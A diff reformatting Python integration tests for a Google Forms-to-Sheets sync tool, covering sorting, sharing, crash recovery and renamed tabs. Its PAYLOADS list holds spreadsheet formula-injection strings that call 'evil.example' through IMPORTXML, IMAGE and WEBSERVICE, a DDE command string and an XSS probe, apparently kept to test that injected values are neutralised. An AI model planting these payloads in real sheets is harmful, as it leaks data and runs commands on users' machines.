@@ -1,4 +1,5 @@
 """ppp-gsuite sync against the local workspace over real HTTP."""
+
 import shutil
 from datetime import timedelta
 
@@ -30,17 +31,37 @@ def test_a_response_becomes_one_row_and_reruns_change_nothing(env, local):
 
 
 def test_sync_stays_right_after_a_lead_sorts_inserts_a_column_and_sets_statuses(env, local):
-    first = [env.answer("eoi-heart-board", EOI, full_name=name, email=f"{name.lower()}@example.org")
-             for name in ("Cara", "Abe", "Bea")]
+    first = [
+        env.answer("eoi-heart-board", EOI, full_name=name, email=f"{name.lower()}@example.org")
+        for name in ("Cara", "Abe", "Bea")
+    ]
     env.apply()
     sheet_id = env.spreadsheet(HEART)
     # The lead inserts a column before everything, sorts the rows by name (Sheets' sortRange), sets statuses.
-    tab_id = next(s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB)
-    env.sheets.batch_update(sheet_id, [{"insertDimension": {"range": {"sheetId": tab_id, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}}}])
+    tab_id = next(
+        s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB
+    )
+    env.sheets.batch_update(
+        sheet_id,
+        [{"insertDimension": {"range": {"sheetId": tab_id, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}}}],
+    )
     header = env.tab(HEART)[0]
-    env.sheets.batch_update(sheet_id, [{"sortRange": {
-        "range": {"sheetId": tab_id, "startRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": len(header)},
-        "sortSpecs": [{"dimensionIndex": header.index("Name"), "sortOrder": "ASCENDING"}]}}])
+    env.sheets.batch_update(
+        sheet_id,
+        [
+            {
+                "sortRange": {
+                    "range": {
+                        "sheetId": tab_id,
+                        "startRowIndex": 1,
+                        "startColumnIndex": 0,
+                        "endColumnIndex": len(header),
+                    },
+                    "sortSpecs": [{"dimensionIndex": header.index("Name"), "sortOrder": "ASCENDING"}],
+                }
+            }
+        ],
+    )
     values = env.tab(HEART)
     rows = values[1:]
     assert [row[header.index("Name")] for row in rows] == ["Abe", "Bea", "Cara"]
@@ -51,9 +72,14 @@ def test_sync_stays_right_after_a_lead_sorts_inserts_a_column_and_sets_statuses(
         row[0] = "my note on " + row[header.index("Name")]
     env.write(HEART, [(cell_range(TAB, 1, 0, len(header) - 1, len(rows) + 1), [header] + rows)])
 
-    cara = next(r for r in first if r["answers"][question_id(EOI, "full_name")]["textAnswers"]["answers"][0]["value"] == "Cara")
+    cara = next(
+        r for r in first if r["answers"][question_id(EOI, "full_name")]["textAnswers"]["answers"][0]["value"] == "Cara"
+    )
     edited = dict(cara["answers"])
-    edited[question_id(EOI, "email")] = {"questionId": question_id(EOI, "email"), "textAnswers": {"answers": [{"value": "cara.new@example.org"}]}}
+    edited[question_id(EOI, "email")] = {
+        "questionId": question_id(EOI, "email"),
+        "textAnswers": {"answers": [{"value": "cara.new@example.org"}]},
+    }
     local.edit_response(env.form_ids["eoi-heart-board"], cara["responseId"], {"answers": edited})
     env.answer("eoi-heart-board", EOI, full_name="Dan", email="dan@example.org")
     report = env.apply()
@@ -73,10 +99,26 @@ def test_sync_stays_right_after_a_lead_sorts_inserts_a_column_and_sets_statuses(
 
 
 PAYLOADS = [
-    '=IMPORTXML("http://evil.example/x", "//a")', '=HYPERLINK("http://evil.example", "click")', "=1+1",
-    "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r\n=1+1", "=cmd|' /C calc'!A0", "'=1+1",
-    '=IMAGE("http://evil.example/p.png")', "=WEBSERVICE(\"http://evil.example\")", "0012", "1e10", "TRUE",
-    "2026-01-01", "£5", "  spaces  ", "<script>alert(1)</script>", "=A1&\"x\"",
+    '=IMPORTXML("http://evil.example/x", "//a")',
+    '=HYPERLINK("http://evil.example", "click")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r\n=1+1",
+    "=cmd|' /C calc'!A0",
+    "'=1+1",
+    '=IMAGE("http://evil.example/p.png")',
+    '=WEBSERVICE("http://evil.example")',
+    "0012",
+    "1e10",
+    "TRUE",
+    "2026-01-01",
+    "£5",
+    "  spaces  ",
+    "<script>alert(1)</script>",
+    '=A1&"x"',
 ]
 
 
@@ -136,8 +178,10 @@ def test_expense_claims_get_mileage_and_totals(env):
 def test_spreadsheets_are_shared_only_with_who_needs_them(env):
     env.apply()
     files = {f["appProperties"]["target"]: f["id"] for f in env.drive.find("spreadsheet")}
+
     def readers(target):
         return {p.get("emailAddress") for p in env.drive.permissions(files[target]) if p.get("role") != "owner"}
+
     assert readers(HEART) == {"alex@example.org"}
     assert readers("opportunity:eye-group") == {"jo@example.org"}
     assert readers("expenses") == {"pat@example.org"}
@@ -188,10 +232,16 @@ def test_killing_the_sync_process_mid_write_then_rerunning_writes_each_response_
     for n in range(4):
         env.answer("eoi-heart-board", EOI, full_name=f"Person {n}", email=f"p{n}@example.org")
     # The server applies the first values write, then holds its answer: the process is killed waiting.
-    local.json("POST", "/_local/faults", {"method_id": "sheets.spreadsheets.values.batchUpdate", "mode": "hang", "seconds": 20})
-    process = subprocess.Popen([sys.executable, "-m", "ppp_gsuite.cli", "sync"], cwd=env.root,
-                               env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url},
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    local.json(
+        "POST", "/_local/faults", {"method_id": "sheets.spreadsheets.values.batchUpdate", "mode": "hang", "seconds": 20}
+    )
+    process = subprocess.Popen(
+        [sys.executable, "-m", "ppp_gsuite.cli", "sync"],
+        cwd=env.root,
+        env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     deadline = time.monotonic() + 20
     while not any(r["methodId"] == "sheets.spreadsheets.values.batchUpdate" for r in local.requests()):
         assert time.monotonic() < deadline and process.poll() is None, process.communicate()
@@ -199,8 +249,13 @@ def test_killing_the_sync_process_mid_write_then_rerunning_writes_each_response_
     process.send_signal(signal.SIGKILL)
     process.wait()
     local.request("DELETE", "/_local/faults")
-    result = subprocess.run([sys.executable, "-m", "ppp_gsuite.cli", "sync"], cwd=env.root,
-                            env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url}, capture_output=True, text=True)
+    result = subprocess.run(
+        [sys.executable, "-m", "ppp_gsuite.cli", "sync"],
+        cwd=env.root,
+        env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url},
+        capture_output=True,
+        text=True,
+    )
     assert result.returncode == 0, result.stderr
     names = sorted(r["Name"] for r in env.records(HEART))
     assert names == [f"Person {n}" for n in range(4)]
@@ -210,15 +265,21 @@ def test_a_renamed_tab_stops_only_its_own_spreadsheet_and_says_what_to_do(env):
     env.answer("eoi-heart-board", EOI, full_name="Heart 1", email="h1@example.org")
     env.apply()
     sheet_id = env.spreadsheet(HEART)
-    tab_id = next(s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB)
-    env.sheets.batch_update(sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": "EOIs"}, "fields": "title"}}])
+    tab_id = next(
+        s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB
+    )
+    env.sheets.batch_update(
+        sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": "EOIs"}, "fields": "title"}}]
+    )
     env.answer("eoi-heart-board", EOI, full_name="Heart 2", email="h2@example.org")
     env.answer("eoi-eye-group", EOI, full_name="Eye 1", email="e1@example.org")
     report = env.apply()
     problems = report.refused["Patient and Public Partners: Heart Care Board (Testshire Care Partnership)"]
     assert "Rename it back" in problems[0] and "Expressions of interest" in problems[0]
     assert [r["Name"] for r in env.records("opportunity:eye-group")] == ["Eye 1"]
-    env.sheets.batch_update(sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": TAB}, "fields": "title"}}])
+    env.sheets.batch_update(
+        sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": TAB}, "fields": "title"}}]
+    )
     report = env.apply()
     assert not report.refused
     assert sorted(r["Name"] for r in env.records(HEART)) == ["Heart 1", "Heart 2"]
@@ -232,7 +293,10 @@ def test_a_renamed_response_id_column_never_duplicates_rows(env):
     column = header.index("Response ID")
     env.write(HEART, [(cell_range(TAB, 1, column, column), [["ID"]])])
     report = env.apply(full=True)
-    assert "'Response ID'" in report.refused["Patient and Public Partners: Heart Care Board (Testshire Care Partnership)"][0]
+    assert (
+        "'Response ID'"
+        in report.refused["Patient and Public Partners: Heart Care Board (Testshire Care Partnership)"][0]
+    )
     assert len(env.tab(HEART)) == 4  # the header and the same three rows
     env.write(HEART, [(cell_range(TAB, 1, column, column), [["Response ID"]])])
     env.apply(full=True)
@@ -258,11 +322,15 @@ def test_a_new_lead_contact_gets_the_sheet_and_the_old_one_loses_it(env):
     config = env.loaded.workspace.config
     heart = config.opportunities[0]
     new_lead = heart.lead_contact.model_copy(update={"name": "New Lead", "email": "new.lead@example.org"})
-    changed = config.model_copy(update={"opportunities": [heart.model_copy(update={"lead_contact": new_lead})] + config.opportunities[1:]})
+    changed = config.model_copy(
+        update={"opportunities": [heart.model_copy(update={"lead_contact": new_lead})] + config.opportunities[1:]}
+    )
     env.answer("eoi-heart-board", EOI, full_name="Heart 2", email="h2@example.org")
     report = env.apply(config=changed)
     assert not report.refused
     people = {p.get("emailAddress") for p in env.drive.permissions(env.spreadsheet(HEART)) if p.get("role") != "owner"}
     assert people == {"new.lead@example.org"}
-    assert report.unshared == ["Patient and Public Partners: Heart Care Board (Testshire Care Partnership): alex@example.org"]
+    assert report.unshared == [
+        "Patient and Public Partners: Heart Care Board (Testshire Care Partnership): alex@example.org"
+    ]
     assert sorted(r["Name"] for r in env.records(HEART)) == ["Heart 1", "Heart 2"]
